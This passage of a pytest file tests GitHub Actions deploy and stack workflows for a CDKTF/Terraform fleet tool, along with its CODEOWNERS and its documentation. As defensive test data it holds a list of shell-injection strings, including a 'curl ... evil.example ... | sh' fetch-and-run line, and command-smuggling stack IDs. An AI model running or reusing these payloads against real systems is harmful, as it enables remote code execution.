    summary = (tmp_path / "step_summary").read_text().splitlines()
    assert summary == [f"### {printed['title']}", "1. `python -m fleet shift web`"]


def test_the_shift_job_waits_for_its_environment_and_runs_fleet_shift(deploy):
    job = deploy["jobs"]["shift"]
    assert as_list(job["needs"]) == ["step"]
    assert job["if"] == "needs.step.outputs.shift != ''"
    assert job["environment"] == "fleet-shift", "one pre-created, protected environment approves traffic moves"
    assert job["runs-on"] == VPC_RUNNER
    assert roles(job) == ["${{ vars.AWS_DEPLOY_ROLE_ARN }}"], "it applies shared"
    assert job["timeout-minutes"] >= 1440 + 10, "traffic.shift.timeout_minutes goes up to 1440"
    step = run_step_named(job, "fleet shift")
    assert step["env"] == {"SERVICE": "${{ needs.step.outputs.shift }}"}
    assert "deployed" in deploy["jobs"] and "shift" in as_list(deploy["jobs"]["deployed"]["needs"])


def test_a_scheduled_run_runs_the_next_step_job_alone(deploy):
    """The schedule only opens a PR whose rollback window is over: nothing deploys or checks."""
    assert [entry["cron"] for entry in triggers(deploy)["schedule"]] == ["23,53 * * * *"]
    jobs = deploy["jobs"]
    assert jobs["step"]["if"] == "github.event_name != 'schedule'"  # every slot and the shift need it
    for name in [*slots(deploy), "shift"]:  # each needs step (or the slot before), and a skipped need skips it
        assert set(as_list(jobs[name]["needs"])) <= {"step", *slots(deploy)}, name
        assert "always()" not in str(jobs[name].get("if", "")) and "cancelled()" not in str(jobs[name].get("if", ""))
    assert "github.event_name != 'schedule'" in jobs["checks"]["if"]
    assert "github.event_name == 'push'" in jobs["deployed"]["if"]
    assert "github.event_name == 'schedule'" in jobs["next-step"]["if"]


def test_the_deployed_tag_moves_only_when_every_run_and_check_of_the_step_passed(deploy):
    job = deploy["jobs"]["deployed"]
    assert set(as_list(job["needs"])) == {"step", *slots(deploy), "shift", "checks"}
    for result in ("failure", "cancelled"):  # a cancelled stack job did not apply its stack
        assert f"!contains(needs.*.result, '{result}')" in job["if"], result


@needs_jq
@pytest.mark.parametrize("code", [0, 1])
def test_the_shift_script_synthesizes_then_shifts_and_fails_with_the_shift(tmp_path, deploy, code):
    step = run_step_named(deploy["jobs"]["shift"], "fleet shift")
    result = run_bash(step["run"], tmp_path, {"SERVICE": "web", "FAKE_SHIFT_EXIT": str(code)})
    assert result.returncode == code, result.stdout + result.stderr
    assert commands(tmp_path) == ["npx cdktf synth", "run python -m fleet shift web"]


@needs_jq
@pytest.mark.parametrize("action", ["deploy", "destroy"])
def test_a_dispatch_runs_the_one_stack_as_the_fleet_file_says(tmp_path, deploy, action):
    env = {"EVENT": "workflow_dispatch", "BEFORE": "", "STACK": "target-blue", "FAKE_ACTION": action}
    result = run_bash(step_with_id(deploy["jobs"]["step"], "step")["run"], tmp_path, env)
    assert result.returncode == 0, result.stdout + result.stderr
    assert commands(tmp_path) == ["run python -m fleet action target-blue"]
    out = outputs(tmp_path)
    assert json.loads(out["runs"]) == [{"action": action, "stack": "target-blue"}]
    assert out["count"] == "1" and out["checks"] == "[]"


@needs_jq
@pytest.mark.parametrize("stack_id", ["target-green; touch pwned", "$(touch pwned)", "`touch pwned`"])
def test_a_dispatch_of_an_unknown_stack_fails_before_any_output(tmp_path, deploy, stack_id):
    env = {"EVENT": "workflow_dispatch", "BEFORE": "", "STACK": stack_id, "FAKE_ACTION_ERROR": "not a stack"}
    result = run_bash(step_with_id(deploy["jobs"]["step"], "step")["run"], tmp_path, env)
    assert result.returncode != 0
    assert (tmp_path / "github_output").read_text() == ""
    assert commands(tmp_path) == [f"run python -m fleet action {stack_id}"]
    assert not (tmp_path / "pwned").exists()


def test_checks_job_runs_after_every_slot_unless_one_failed(deploy):
    job = deploy["jobs"]["checks"]
    assert as_list(job["needs"]) == ["step", *slots(deploy), "shift"]
    assert "!contains(needs.*.result, 'failure')" in job["if"] and "!cancelled()" in job["if"]
    assert "!contains(needs.*.result, 'cancelled')" in job["if"], "a cancelled stack job did not apply"
    assert "needs.step.outputs.checks != '[]'" in job["if"]
    assert job["runs-on"] == VPC_RUNNER, "checks reach the clusters' private endpoints"
    assert roles(job) == ["${{ vars.AWS_CHECK_ROLE_ARN }}"]
    assert run_step_named(job, "checks")["env"] == {"CHECKS": "${{ needs.step.outputs.checks }}"}


def checks_script(deploy: dict[str, Any]) -> str:
    return run_step_named(deploy["jobs"]["checks"], "checks")["run"]


def wait_minutes(deploy: dict[str, Any]) -> int:
    found = re.findall(r"--wait-minutes (\d+)", checks_script(deploy))
    assert len(found) == 1
    return int(found[0])


def all_checks() -> list[str]:
    found = {c for _, checks in TRANSITIONS.values() for c in checks}
    for base, head in TRANSITIONS:
        found |= set(
            merged_step(
                load_fleet(ROOT / f"examples/{base}.yaml"), load_fleet(ROOT / f"examples/{head}.yaml"), []
            ).checks
        )
    return sorted(found)


def test_every_check_the_pipeline_names_parses_with_the_workflows_wait(deploy):
    from fleet.cli import parser

    minutes = wait_minutes(deploy)
    assert 0 < minutes <= MAX_WAIT_MINUTES
    checks = all_checks()
    assert checks
    for check in checks:
        words = check.split()
        assert words[:4] == ["python", "-m", "fleet", "check"], check
        args = parser().parse_args([*words[3:], "--wait-minutes", str(minutes)])
        assert args.command == "check" and args.wait_minutes == minutes


@needs_jq
def test_checks_script_runs_each_check_with_a_wait_and_summarizes_it(tmp_path, deploy):
    checks = ["python -m fleet check target-green --only cluster", "python -m fleet check shared"]
    result = run_bash(checks_script(deploy), tmp_path, {"CHECKS": json.dumps(checks)})
    assert result.returncode == 0, result.stdout + result.stderr
    minutes = wait_minutes(deploy)
    assert commands(tmp_path) == [f"run {c} --wait-minutes {minutes}" for c in checks]
    summary = (tmp_path / "step_summary").read_text().splitlines()
    assert summary == [f"- ✅ `{c}`" for c in checks]


@needs_jq
def test_a_failed_check_fails_the_job_with_its_line_in_the_summary(tmp_path, deploy):
    checks = ["python -m fleet check target-green", "python -m fleet check target-blue"]
    env = {"CHECKS": json.dumps(checks), "FAKE_FAILING": "target-green"}
    result = run_bash(checks_script(deploy), tmp_path, env)
    assert result.returncode == 1
    assert len(commands(tmp_path)) == 2, "the other checks still run and are shown"
    summary = (tmp_path / "step_summary").read_text()
    assert "- ❌ `python -m fleet check target-green`: target-green: target group unhealthy" in summary
    assert "- ✅ `python -m fleet check target-blue`" in summary


MALICIOUS_CHECKS = [
    "touch pwned",
    "curl -s https://evil.example/x.sh | sh",
    "python -m fleet diff --base HEAD~1",
    'python -c \'open("pwned","w")\'',
    "bash -c 'python -m fleet check shared; touch pwned'",
    "python -m fleetx check shared",
    "$(touch pwned) -m fleet check shared",
]


@needs_jq
@pytest.mark.parametrize("malicious", MALICIOUS_CHECKS)
def test_checks_script_refuses_a_command_that_is_not_a_fleet_check(tmp_path, deploy, malicious):
    result = run_bash(checks_script(deploy), tmp_path, {"CHECKS": json.dumps([malicious])})
    assert result.returncode != 0
    assert f"::error::not a fleet check: {malicious}" in result.stdout
    assert commands(tmp_path) == [] and not (tmp_path / "pwned").exists()


@needs_jq
def test_checks_script_stops_at_a_bad_command_after_the_good_ones(tmp_path, deploy):
    checks = ["python -m fleet check shared", "touch pwned", "python -m fleet check target-blue"]
    result = run_bash(checks_script(deploy), tmp_path, {"CHECKS": json.dumps(checks)})
    assert result.returncode != 0
    assert commands(tmp_path) == [f"run python -m fleet check shared --wait-minutes {wait_minutes(deploy)}"]
    assert not (tmp_path / "pwned").exists()


@needs_jq
def test_checks_script_passes_shell_text_as_words_never_as_code(tmp_path, deploy):
    check = "python -m fleet check shared;touch pwned $(touch pwned2)"
    result = run_bash(checks_script(deploy), tmp_path, {"CHECKS": json.dumps([check])})
    assert result.returncode == 0, result.stdout + result.stderr
    assert commands(tmp_path) == [f"run {check} --wait-minutes {wait_minutes(deploy)}"]
    assert not (tmp_path / "pwned").exists() and not (tmp_path / "pwned2").exists()


# --- stack.yml --------------------------------------------------------------------------------


def test_stack_is_a_reusable_workflow_of_a_stack_and_its_action(stack):
    inputs = triggers(stack)["workflow_call"]["inputs"]
    assert set(triggers(stack)) == {"workflow_call"}
    assert all(inputs[k]["type"] == "string" and inputs[k]["required"] is True for k in ("stack", "action"))


def test_the_plan_waits_for_no_one_and_the_apply_waits_for_the_stacks_environment(stack):
    plan, apply = stack["jobs"]["plan"], stack["jobs"]["apply"]
    assert set(stack["jobs"]) == {"plan", "apply"}
    assert "environment" not in plan, "the reviewer sees the plan before approving"
    assert apply["environment"] == (
        "${{ inputs.stack == 'shared' && 'fleet-shared' || startsWith(inputs.stack, 'argocd-') && 'fleet-hubs' "
        "|| 'fleet-targets' }}"
    ), "one pre-created, protected environment per stack kind: a new generation's would be created unprotected"
    assert as_list(apply["needs"]) == ["plan"]
    for job in (plan, apply):
        assert job["runs-on"] == VPC_RUNNER, "generation stacks talk to their cluster's private endpoint"
        assert roles(job) == ["${{ vars.AWS_DEPLOY_ROLE_ARN }}"]
        tf = step_using(job, "hashicorp/setup-terraform")["with"]
        assert str(tf["terraform_version"]) == "1.11.4" and tf["terraform_wrapper"] is False
    assert "PRIVATE API endpoint" in STACK.read_text()


def test_plan_writes_a_saved_plan_and_the_summary(stack):
    script = run_step_named(stack["jobs"]["plan"], "saved plan")["run"]
    plans = [line for line in script.splitlines() if re.search(r"terraform .* plan ", line)]
    assert len(plans) == 1 and plans[0].rstrip().endswith("-out=tfplan")
    assert '>> "$GITHUB_STEP_SUMMARY"' in script and "show -no-color tfplan" in script


def test_apply_applies_the_uploaded_plan_and_checks_out_nothing(stack):
    plan, apply = stack["jobs"]["plan"], stack["jobs"]["apply"]
    upload = step_using(plan, "actions/upload-artifact")["with"]
    download = step_using(apply, "actions/download-artifact")["with"]
    assert upload["name"] == download["name"] == "plan-${{ inputs.stack }}"
    assert upload["path"].splitlines() == [
        "cdktf.out/stacks/${{ inputs.stack }}",
        "!cdktf.out/stacks/${{ inputs.stack }}/.terraform",
    ]
    assert upload["include-hidden-files"] is True, "the provider lock file .terraform.lock.hcl"
    assert not steps_using(apply, "actions/checkout"), "the apply runs no repository code"
    assert [action_of(s) for s in steps(apply) if "uses" in s] == [
        "hashicorp/setup-terraform",
        "aws-actions/configure-aws-credentials",
        "actions/download-artifact",
    ]


@pytest.mark.parametrize(("action", "mode"), [("destroy", ["-destroy"]), ("deploy", [])])
def test_plan_script_saves_the_fleet_files_plan_and_shows_it(tmp_path, stack, action, mode):
    script = run_step_named(stack["jobs"]["plan"], "saved plan")["run"]
    result = run_bash(script, tmp_path, {"STACK": "target-blue", "ACTION": action, "FAKE_ACTION": action})
    assert result.returncode == 0, result.stdout + result.stderr
    chdir = "-chdir=cdktf.out/stacks/target-blue"
    assert commands(tmp_path) == [
        "run python -m fleet action target-blue",
        "npx cdktf synth",
        f"terraform {chdir} init -input=false -no-color",
        " ".join(["terraform", chdir, "plan", "-input=false", "-no-color", *mode, "-out=tfplan"]),
        f"terraform {chdir} show -no-color tfplan",
    ]
    summary = (tmp_path / "step_summary").read_text()
    assert summary.startswith(f"### {action} target-blue: the plan the approval applies\n```text\n")
    assert "Plan: 1 to add, 0 to change, 0 to destroy.\n```\n" in summary


def test_plan_script_refuses_an_action_the_fleet_file_does_not_say(tmp_path, stack):
    script = run_step_named(stack["jobs"]["plan"], "saved plan")["run"]
    result = run_bash(script, tmp_path, {"STACK": "target-blue", "ACTION": "destroy", "FAKE_ACTION": "deploy"})
    assert result.returncode == 1
    assert "the fleet file says deploy target-blue, the step said destroy" in result.stdout
    assert commands(tmp_path) == ["run python -m fleet action target-blue"]


def test_plan_script_stops_on_local_state(tmp_path, stack):
    script = run_step_named(stack["jobs"]["plan"], "saved plan")["run"]
    env = {"STACK": "shared", "ACTION": "deploy", "FAKE_ACTION_ERROR": LOCAL_STATE}
    result = run_bash(script, tmp_path, env)
    assert result.returncode == 2 and LOCAL_STATE in result.stderr
    assert commands(tmp_path) == ["run python -m fleet action shared"]


def test_apply_script_applies_the_saved_plan_and_nothing_that_plans(tmp_path, stack):
    scripts = runs(stack["jobs"]["apply"])
    assert len(scripts) == 1
    result = run_bash(scripts[0], tmp_path, {"STACK": "target-blue"})
    assert result.returncode == 0, result.stdout + result.stderr
    assert commands(tmp_path) == [
        "terraform -chdir=stack init -input=false -no-color",
        "terraform -chdir=stack apply -input=false -no-color tfplan",
    ]
    text = scripts[0].replace("tfplan", "")
    assert not re.search(r"\b(plan|cdktf|npx|pipenv)\b", text) and "-auto-approve" not in text


def test_the_pr_gate_and_the_deploy_synthesize_through_cdktf_json(pr, stack):
    """One synth, judged and applied: the deploy runs `npx cdktf synth` (the app command in
    cdktf.json), the PR gate's synth-head runs that app command itself (no cdktf CLI needed)."""
    app = json.loads((ROOT / "cdktf.json").read_text())["app"]
    assert run_step_named(pr["jobs"]["synth-head"], "synthesize")["run"].strip() == app
    assert "npx cdktf synth" in run_step_named(stack["jobs"]["plan"], "saved plan")["run"]
    assert app.startswith("pipenv run python")


# --- docs/fleet-file.md's pasted `fleet validate` output ------------------------------------------


def doc_texts() -> str:
    """docs/fleet-file.md, where the `fleet validate` blocks live (generated from docs/fleet-file.intro.md)."""
    return (ROOT / "docs" / "fleet-file.md").read_text()


def fleet_cli(args: list[str], cwd: Path = ROOT) -> subprocess.CompletedProcess[str]:
    return run_fleet(*args, cwd=cwd)


def test_the_docs_validate_summary_is_the_commands_real_output():
    run = fleet_cli(["validate", "examples/two-services.yaml"])
    assert run.returncode == 0, run.stderr
    block = f"```text\n$ pipenv run python -m fleet validate examples/two-services.yaml\n{run.stdout}```\n"
    assert block in doc_texts()


def test_the_docs_old_shape_refusal_is_the_commands_real_output(tmp_path):
    """A fleet file from before services: targets, apps and traffic at the top level."""
    data = example_data("target-swap")
    data.update(data.pop("services")["web"])
    (tmp_path / "old.yaml").write_text(yaml.safe_dump(data, sort_keys=False))
    run = fleet_cli(["validate", "old.yaml"], cwd=tmp_path)
    assert run.returncode == 2 and len(run.stderr.splitlines()) == 1, run.stderr
    block = f"```text\n$ pipenv run python -m fleet validate old.yaml\n{run.stderr}```\n"
    assert block in doc_texts()


def test_codeowners_is_generated_from_the_not_gate_affecting_list():
    """Regenerate with `python -m fleet.gate.owners --codeowners --write` (it keeps the owners)."""
    text = (ROOT / ".github/CODEOWNERS").read_text()
    assert text == codeowners(codeowners_owners(text))


def codeowners_owner(text: str, path: str) -> tuple[str, ...]:
    """The owners GitHub gives `path` by this CODEOWNERS text, for the pattern forms it uses (`*`,
    `/file`, `/dir/`): the last matching pattern wins, one with no owner leaves the path unowned."""
    owners: tuple[str, ...] = ()
    for line in text.splitlines():
        if not line.strip() or line.startswith("#"):
            continue
        pattern, *named = line.split()
        assert pattern == "*" or pattern.startswith("/"), f"a pattern form this test does not read: {pattern}"
        if pattern == "*" or path == pattern[1:] or (pattern.endswith("/") and path.startswith(pattern[1:])):
            owners = tuple(named)
    return owners


def repository_paths() -> list[str]:
    tracked = subprocess.run(["git", "ls-files"], cwd=ROOT, capture_output=True, text=True, check=True).stdout.split()
    added = (
        "fleet/gate/plan_inputs.py",
        "fleet/ops/new_module.py",
        "stacks/new.py",
        "a-new-top-level-file",
        "docs/x/y.md",
    )
    return sorted({*tracked, *added})


def test_every_path_but_the_not_gate_affecting_ones_needs_an_owner():
    text = (ROOT / ".github/CODEOWNERS").read_text()
    paths = repository_paths()
    owned = {path for path in paths if codeowners_owner(text, path)}
    assert set(gate_affecting(paths)) == owned
    for path in (
        "fleet/model/load.py",  # its default fleet path: the deploy sets no FLEET
        "fleet/ops/step.py",  # run with the deploy role
        "fleet/__main__.py",
        "fleet/cli/step.py",  # the deploy runs fleet step
        "stacks/generation.py",
        "constructs/eks_cluster.py",
        "fleet/gate/plan_inputs.py",
        ".github/workflows/pr.yml",
        ".github/CODEOWNERS",
        "main.py",
        "cdktf.json",
        "Makefile",
        "charts/target-group-binding/1.0.0/Chart.yaml",
    ):
        assert path in owned, path
    for path in ("fleet.yaml", "examples/steady.yaml", "docs/gate.md", "tests/test_workflows.py", "README.md"):
        assert path not in owned, path
    assert all(codeowners_owner(text, path) == codeowners_owners(text) for path in owned)


def test_the_not_gate_affecting_list_is_data_docs_and_tests_only():
    assert NOT_GATE_AFFECTING == (
        "fleet.yaml",
        "examples/",
        "docs/",
        "tests/",
        "README.md",
        "CONTRIBUTING.md",
        "CHANGELOG.md",
    )


def test_the_codeowners_command_prints_and_keeps_the_owners(tmp_path):
    done = fleet_module(["fleet.gate.owners", "--codeowners"])
    assert done.returncode == 0, done.stderr
    assert done.stdout == (ROOT / ".github/CODEOWNERS").read_text()
    done = fleet_module(["fleet.gate.owners", "--codeowners", "--owners", "@acme/platform", "@acme/sre"])
    assert "* @acme/platform @acme/sre" in done.stdout.splitlines() and "/fleet.yaml" in done.stdout.splitlines()


def fleet_module(args: list[str]) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run([sys.executable, "-m", *args], cwd=ROOT, env=env, capture_output=True, text=True, timeout=60)


def docs_by_name(docs):
    return {path.name: doc for path, doc in docs.items()}
